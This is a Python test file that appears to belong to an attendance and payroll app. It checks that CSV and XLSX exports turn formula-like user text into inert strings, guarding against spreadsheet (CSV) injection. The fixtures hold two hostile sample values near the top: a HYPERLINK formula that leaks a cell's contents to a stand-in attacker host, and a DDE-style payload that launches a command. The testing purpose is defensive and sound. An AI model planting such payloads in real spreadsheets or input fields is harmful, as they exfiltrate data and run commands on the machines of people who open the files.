"""Names, notes and reasons are typed by users: in every CSV and XLSX the product writes, a value that a
spreadsheet would run as a formula (``=HYPERLINK(...)``, ``@SUM(...)``) arrives as inert text (OWASP CSV
injection). Money keeps being a number, negative amounts included."""

from __future__ import annotations

import csv
import io
from datetime import timedelta

import pytest
from openpyxl import load_workbook

from attendance.domain.scoring import month_label
from attendance.reporting.cells import csv_cell
from tests.conftest import login, make_person, make_team
from tests.services.test_scores import attend, last_month, violation

EVIL_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"点我")'
EVIL_NOTE = "@SUM(1+1)*cmd|' /C calc'!A0"


@pytest.fixture
def world(app):
    team = make_team("T1", "热线一组")
    month = last_month()
    staff = make_person(["staff"], team, name=EVIL_NAME, wage="3000.00")
    lead = make_person(["lead", "staff"], team, name="组长")
    attend(staff, month)
    violation(staff, "COMPLAINT", month + timedelta(days=2), note=EVIL_NOTE)
    return {"month": month_label(month), "lead": lead, "hr": make_person(["hr"], name="周人事")}


def _xlsx_cells(body: bytes) -> list:
    book = load_workbook(io.BytesIO(body))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def _assert_inert_xlsx(body: bytes) -> None:
    cells = _xlsx_cells(body)
    evil = [c for c in cells if isinstance(c.value, str) and c.value.startswith(("=", "@"))]
    assert evil, "the exported file should contain the user's text"
    assert all(c.data_type == "s" for c in evil), [(c.coordinate, c.data_type) for c in evil]


def _assert_inert_csv(body: bytes) -> None:
    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))
    values = [v for row in rows for v in row]
    assert "'" + EVIL_NAME in values and not any(v.startswith(("=", "@", "+")) for v in values)


def test_every_export_keeps_formula_like_text_inert(client, world):
    login(client, world["hr"])
    month = world["month"]
    _assert_inert_csv(client.get(f"/scores/payroll.csv?month={month}").data)
    _assert_inert_xlsx(client.get(f"/scores/payroll.xlsx?month={month}").data)
    _assert_inert_csv(client.get(f"/violations/log.csv?team=T1&month={month}").data)
    _assert_inert_xlsx(client.get(f"/violations/log.xlsx?team=T1&month={month}").data)
    _assert_inert_xlsx(client.get(f"/attendance/sheet.xlsx?team=T1&month={month}").data)
    client.post(f"/scores/reports/{month}")
    workbook = client.get(f"/scores/reports/{month}/workbook-{month}.xlsx")
    _assert_inert_xlsx(workbook.data)
    workbook.close()


@pytest.mark.parametrize(("value", "cell"), [
    ("=1+1", "'=1+1"), ("+86 138", "'+86 138"), ("-x", "'-x"), ("@a", "'@a"), ("\tx", "'\tx"),
    ("王芳", "王芳"), (None, ""),
])
def test_a_csv_cell_neutralises_text_that_starts_a_formula(value, cell):
    assert csv_cell(value) == cell


def test_numbers_stay_numbers_in_a_csv_even_when_negative():
    from decimal import Decimal

    assert (csv_cell(Decimal("-10.00")), csv_cell(-3), csv_cell(Decimal("30.00"))) == ("-10.00", "-3", "30.00")
